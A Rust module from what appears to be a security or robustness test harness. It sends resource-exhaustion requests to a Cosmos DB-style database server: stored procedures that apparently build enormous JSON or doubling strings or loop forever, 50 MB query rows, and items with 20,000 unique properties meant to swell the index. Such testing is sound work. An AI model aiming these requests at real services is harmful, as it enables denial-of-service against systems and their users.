//! Scripts, and items that are expensive to index.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use serde_json::{Map, Value, json};

use crate::attack::Outcome;
use crate::attacks::outcome;
use crate::rest::{Client, Request};
use crate::target::{CONTAINER, DATABASE, SCRIPTS_CONTAINER, Target};

/// The new property paths of one item, which the index would have to store.
const PROPERTIES: u64 = 20_000;

/// Creates a document that is small in the script's heap and has 2^60 elements as JSON.
pub(super) async fn shared_references(target: Arc<Target>) -> Outcome {
    execute(&target, "doubling").await
}

/// Returns a response body that is small in the script's heap and has 2^60 elements as JSON.
pub(super) async fn shared_answer(target: Arc<Target>) -> Outcome {
    execute(&target, "doubling-answer").await
}

/// Logs strings that double until a limit on the heap or on the log ends the script.
pub(super) async fn doubled_strings(target: Arc<Target>) -> Outcome {
    execute(&target, "strings").await
}

/// Occupies a script thread until the time limit of the server.
pub(super) async fn endless(target: Arc<Target>) -> Outcome {
    execute(&target, "forever").await
}

/// Makes each row of a query 50 MB long.
pub(super) async fn huge_rows(target: Arc<Target>) -> Outcome {
    let body = json!({ "query": "SELECT VALUE udf.huge() FROM c" }).to_string();
    let path = format!("/dbs/{DATABASE}/colls/{SCRIPTS_CONTAINER}/docs");
    let headers = [
        ("x-ms-documentdb-isquery", "true"),
        ("content-type", "application/query+json"),
    ];
    post(&target, &path, &headers, &body).await
}

/// Creates an item with property names that no other item has.
pub(super) async fn new_properties(target: Arc<Target>) -> Outcome {
    /// Each item has a number of its own, so no two items share a property name.
    static NEXT: AtomicU64 = AtomicU64::new(0);
    let number = NEXT.fetch_add(1, Ordering::Relaxed);
    let mut item: Map<String, Value> = (0..PROPERTIES)
        .map(|property| (format!("p{number}x{property}"), json!(1)))
        .collect();
    item.insert("id".to_owned(), json!(format!("wide-{number}")));
    item.insert("pk".to_owned(), json!("mine"));
    let mut client = Client::with_token(target.address, &target.write_token);
    if client.connect().await.is_err() {
        return Outcome::NotConnected;
    }
    let path = format!("/dbs/{DATABASE}/colls/{CONTAINER}/docs");
    let body = Value::Object(item).to_string();
    let request = Request {
        method: "POST",
        path: &path,
        headers: &[("x-ms-documentdb-partitionkey", "[\"mine\"]")],
        body: body.as_bytes(),
    };
    outcome(client.request(request).await)
}

async fn execute(target: &Target, procedure: &str) -> Outcome {
    let path = format!("/dbs/{DATABASE}/colls/{SCRIPTS_CONTAINER}/sprocs/{procedure}");
    post(target, &path, &[], "[]").await
}

async fn post(target: &Target, path: &str, headers: &[(&str, &str)], body: &str) -> Outcome {
    // Only the owner of an account key may run these procedures.
    let Ok(mut client) = Client::signed(target.address, &target.key) else {
        return Outcome::NotConnected;
    };
    if client.connect().await.is_err() {
        return Outcome::NotConnected;
    }
    let mut all = vec![("x-ms-documentdb-partitionkey", "[\"mine\"]")];
    all.extend_from_slice(headers);
    let request = Request {
        method: "POST",
        path,
        headers: &all,
        body: body.as_bytes(),
    };
    outcome(client.request(request).await)
}
